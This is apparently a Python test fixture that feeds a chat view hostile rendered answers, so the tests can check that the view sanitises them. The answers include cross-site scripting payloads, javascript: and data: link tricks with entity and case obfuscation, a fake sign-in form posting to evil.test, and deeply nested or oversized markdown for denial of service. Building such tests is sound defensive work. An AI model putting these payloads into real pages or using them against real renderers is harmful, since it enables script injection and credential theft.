"""Answers that try to run a script, to load something, or to break the page. ``chat_view.py`` shows them in a browser.

Every script in them would set ``window.hurt``, and every request would go to the host ``evil.test``.
"""

from tests.replaying_engine import ReplayingEngine

RUN = "window.hurt=1"
ROWS = "\n".join(f"| {i} | <img src=x onerror={RUN}> |" for i in range(3000))

HOSTILE: dict[str, tuple[str, tuple[str, ...]]] = {
    "script": (f"a <script>{RUN}</script> b", (f"<script>{RUN}</script>",)),
    "script_block": (f"<script>\n{RUN}\n</script>\n\nafter", ("<script>", RUN, "after")),
    "script_upper_case": (f"<ScRiPt SrC=//evil.test/x.js></sCrIpT>{RUN}", ("<ScRiPt SrC=//evil.test/x.js>",)),
    "script_in_a_list": (f"1. x\n   <script>{RUN}</script>\n2. y", (f"<script>{RUN}</script>",)),
    "script_cut_in_two": (f"<scr<script>ipt>{RUN}</scr</script>ipt>", ("<scr<script>ipt>",)),
    "event_handler": (f"<img src=x onerror={RUN}>", (f"<img src=x onerror={RUN}>",)),
    "event_handler_of_a_paragraph": (
        f'<p onmouseover="{RUN}" onfocus={RUN} autofocus tabindex=0>x</p>',
        ("onmouseover",),
    ),
    "details": (f"<details open ontoggle={RUN}><summary>x</summary></details>", ("ontoggle",)),
    "svg": (f"<svg onload={RUN}><script>{RUN}</script><use href=//evil.test/x.svg#x></svg>", ("<svg onload",)),
    "math": (f'<math><mtext><mglyph><style><img src=x onerror="{RUN}"></style></math>', ("<mglyph>",)),
    "iframe": (f"<iframe src=\"javascript:{RUN}\" srcdoc='<script>{RUN}</script>'></iframe>", ("<iframe src",)),
    "object": ("<object data=//evil.test/x></object><embed src=//evil.test/y>", ("<object data", "<embed")),
    "meta_refresh": ('<meta http-equiv=refresh content="0; url=//evil.test/">', ("<meta http-equiv=refresh",)),
    "base": ("<base href=//evil.test/>\n\n[x](y)", ("<base href", "[x](y)")),
    "style": ("<style>body{display:none;background:url(//evil.test/x)}</style>", ("<style>body",)),
    "style_attribute": (
        '<div style="position:fixed;inset:0;background:url(//evil.test/x)">x</div>',
        ("position:fixed",),
    ),
    "link_stylesheet": ("<link rel=stylesheet href=//evil.test/x.css>", ("<link rel=stylesheet",)),
    "form": (
        "<form action=//evil.test/><input name=token autofocus><button>Sign in</button></form>",
        ("<form action",),
    ),
    "template": (f"<template><script>{RUN}</script></template><noscript><img src=//evil.test/x>", ("<template>",)),
    "comment": (
        f"<!-- hidden --> <!--> <script>{RUN}</script> -->\n\n<![CDATA[x]]>",
        ("<!-- hidden -->", "<![CDATA[x]]>"),
    ),
    "image": ("![a picture](http://evil.test/x.png)", ("a picture",)),
    "image_in_a_link": ("[![badge](http://evil.test/b.png)](http://evil.test/)", ("![badge](http://evil.test/b.png)",)),
    "image_javascript": (f"![x](javascript:{RUN} 'title')", ("![x](javascript:",)),
    "image_data": ("![x](data:image/svg+xml;base64,PHN2ZyBvbmxvYWQ9YWxlcnQoMSk+)", ("![x](data:image",)),
    "link_javascript": (f"[x](javascript:{RUN}) <javascript:{RUN}>", ("[x](javascript:", f"<javascript:{RUN}>")),
    "link_javascript_case": (f"[x](JaVaScRiPt:{RUN}) [y](  JAVASCRIPT:{RUN}  )", ("[x](JaVaScRiPt:", "[y](")),
    "link_javascript_entities": (
        f"[x](javascript&colon;{RUN}) [y](&#106;avascript:{RUN}) [z](&#x6A&#x61vascript:{RUN}) [w](java&Tab;script:x)",
        ("[x](", "[y](", "[z](", "[w]("),
    ),
    "link_javascript_control_characters": (
        f"[x](<java\tscript:{RUN}>) [y](\x01javascript:{RUN}) [z](java\x00script:{RUN}) [w](<java\nscript:{RUN}>)",
        ("[y](", "script:"),
    ),
    "link_javascript_escapes": (
        f"[x](javascript\\:{RUN}) [y](java%73cript:{RUN}) [z](view-source:x)",
        ("[y](", "[z]("),
    ),
    "link_data": (
        f"[x](data:text/html,<script>{RUN}</script>) [y](vbscript:x) [z](file:///etc/passwd)",
        ("[y](", "[z]("),
    ),
    "link_blob": (
        "[x](blob:http://evil.test/1) [y](//evil.test/x) [z](/page/sign-out) [w](#/keys)",
        ("[y](//", "[z](/", "[w](#"),
    ),
    "link_title": (f'[x](http://evil.test/ "\\" onmouseover={RUN} x=\\"")', ("x",)),
    "link_address_breaks_out": (f'[x](http://evil.test/"onmouseover="{RUN})', ("x",)),
    "nested_links": (
        f"[a [b](javascript:{RUN}) c](http://evil.test/) [[[x](y)](z)](javascript:{RUN})",
        ("javascript:",),
    ),
    "autolinks": (
        "http://evil.test/<script> www.evil.test someone@evil.test ftp://evil.test/",
        ("<script>", "ftp://evil.test/"),
    ),
    "reference_definitions": (
        f"[x][r] [r] [__proto__]\n\n[r]: javascript:{RUN}\n[__proto__]: x",
        ("[r]: javascript:",),
    ),
    "unclosed_fence": (f"```html\n<script>{RUN}</script>\n<img src=//evil.test/x>", (f"<script>{RUN}</script>",)),
    "fence_language": (f'```"><img/src=x/onerror={RUN}>__proto__\nx\n```\n~~~constructor\ny\n~~~', ("constructor",)),
    "table": (
        f"| <script>{RUN}</script> | [x](javascript:{RUN}) |\n|---|---|\n| <img src=x onerror={RUN}> |",
        ("<script>",),
    ),
    "gigantic_table": (f"| a | b |\n|---|---|\n{ROWS}", ("<img src=x", "2999")),
    "wide_table": (f"|{'a|' * 2000}\n|{'-|' * 2000}\n|{'x|' * 2000}", ("a",)),
    "deep_quotes": (">" * 10_000 + " end", ("end",)),
    "deep_lists": ("\n".join("  " * i + "- x" for i in range(300)) + "end", ("end",)),
    "deep_emphasis": ("*a **b " * 3000 + "end" + "** *" * 3000, ("end",)),
    "deep_brackets": ("[" * 20_000 + "end" + "](http://evil.test/)" * 2000, ("end",)),
    "slow_to_read": ("_a__b" * 20_000 + "end\n\n" + "a." * 20_000 + "@end", ("end",)),
    "long_word": ("W" * 100_000, ("WWWW",)),
    "headings": ("###### f\n\n# a\n\n### c\n\n> ## d", ("f", "a", "c", "d")),
    "bidi": ("\u202egnp.exe\u202c \u2066\u2067x\u200b\ufeff\u061c end", ("gnp.exe", "end")),
    "ansi": ("\x1b[31mred\x1b[0m \x1b]8;;http://evil.test/\x07x\x1b]8;;\x07 \x9b1m \x08\x08 end", ("red", "end")),
    "prototype": (
        "__proto__ constructor **toString** `hasOwnProperty` {{7+7}} ${7+7} <%= 7+7 %>",
        ("{{7+7}}", "${7+7}"),
    ),
    "entities": ("&lt;script&gt; &amp;lt; &#60;img src=x&#62; &nbsp; &unknown;", ("<script>", "&lt;", "<img src=x>")),
    "lone_surrogates_and_combining": ("Z\u0363\u035b\u0321" + "\u0301" * 500 + " \U000e0041 \ufffe end", ("end",)),
    "carriage_returns": (
        f"a\rb\r\n\r\n# c\r<script>{RUN}</script>\u2028d\u2029e\x0bf\x0cend",
        (f"<script>{RUN}</script>", "end"),
    ),
}
"""By name, the answer, and texts that must be visible."""


LONG = "".join(
    f"## Part {i}\n\nSome **bold** words, `code` and a [link](http://127.0.0.1/{i}).\n\n- one\n- two\n\n"
    f"| a | b |\n|---|---|\n| {i} | x |\n\n```py\nprint({i})\nfor k in range({i}):\n    pass\n```\n\n"
    for i in range(480)
)
"""A usual answer of about 20,000 tokens of four characters."""


MARKDOWN = """# Title

Some **bold**, *it*, ~~gone~~, `x < y`, [link](http://127.0.0.1/), http://127.0.0.1/auto and me@example.org.

## Part

> quoted

3. third
4. fourth

- outer
  - inner
- [x] done

| a | b |
|:--|--:|
| 1 | 2\\|3 |

---

```py
print('hi')
```
"""
USUAL = {"long": LONG, "markdown": MARKDOWN}


class HostileEngine(ReplayingEngine):
    """Replays the answers of this table: ``say NAME``. The names in USUAL are those of usual answers."""

    def answer_to(self, prompt: str) -> str:
        name = prompt.rpartition("say ")[2].partition("<")[0]
        return USUAL.get(name) or HOSTILE[name][0]
